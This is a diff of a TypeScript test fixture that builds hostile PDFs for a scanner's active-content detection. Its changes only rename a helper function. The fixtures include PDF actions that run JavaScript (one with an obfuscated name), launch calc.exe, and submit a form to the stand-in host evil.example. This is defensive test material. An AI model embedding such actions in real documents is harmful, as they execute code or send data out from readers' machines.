@@ -3,7 +3,7 @@ import { archive, pdf } from '../worlds/test-files.ts';
 import { CANARY, type HostileFile, MEGABYTE, patched, SCRIPT, text } from './hostile-kit.ts';
 
 /** A PDF with an action of this kind on opening. */
-const acting = (action: string) => pdf(CANARY, { catalog: `/OpenAction ${action}` });
+const pdfWithAction = (action: string) => pdf(CANARY, { catalog: `/OpenAction ${action}` });
 
 function hiddenInObjectStream(): Buffer {
   const inside = `7 0 <</S/JavaScript/JS(app.alert("${CANARY}"))>>`;
@@ -36,12 +36,12 @@ export async function hostilePdfs(): Promise<HostileFile[]> {
   return [
     {
       name: 'a PDF with a script',
-      file: acting(`<</S/JavaScript/JS(app.alert("${CANARY}"))>>`),
+      file: pdfWithAction(`<</S/JavaScript/JS(app.alert("${CANARY}"))>>`),
       expected: ['active_content'],
     },
     {
       name: 'a PDF with a script whose name is written in figures',
-      file: acting('<</S/J#61vaScript/J#53(x)>>'),
+      file: pdfWithAction('<</S/J#61vaScript/J#53(x)>>'),
       expected: ['active_content'],
     },
     {
@@ -51,12 +51,12 @@ export async function hostilePdfs(): Promise<HostileFile[]> {
     },
     {
       name: 'a PDF that starts a program',
-      file: acting('<</S/Launch/F(calc.exe)>>'),
+      file: pdfWithAction('<</S/Launch/F(calc.exe)>>'),
       expected: ['active_content'],
     },
     {
       name: 'a PDF that sends a form',
-      file: acting('<</S/SubmitForm/F(https://evil.example)>>'),
+      file: pdfWithAction('<</S/SubmitForm/F(https://evil.example)>>'),
       expected: ['active_content'],
     },
     {
